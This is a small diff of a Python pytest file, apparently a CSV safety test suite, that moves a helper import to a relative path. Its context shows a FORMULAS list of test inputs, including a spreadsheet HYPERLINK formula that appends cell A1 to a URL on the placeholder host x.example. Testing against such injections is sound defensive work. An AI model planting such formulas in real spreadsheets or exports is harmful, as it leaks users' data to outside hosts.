@@ -6,7 +6,8 @@ import csv
 import io
 
 import pytest
-from safety_helpers import directive, english_words, make_project, run
+
+from .helpers.safety import directive, english_words, make_project, run
 
 FORMULAS = [
     '"=HYPERLINK(\\"http://x.example/?\\"&A1, \\"Bấm\\")"',
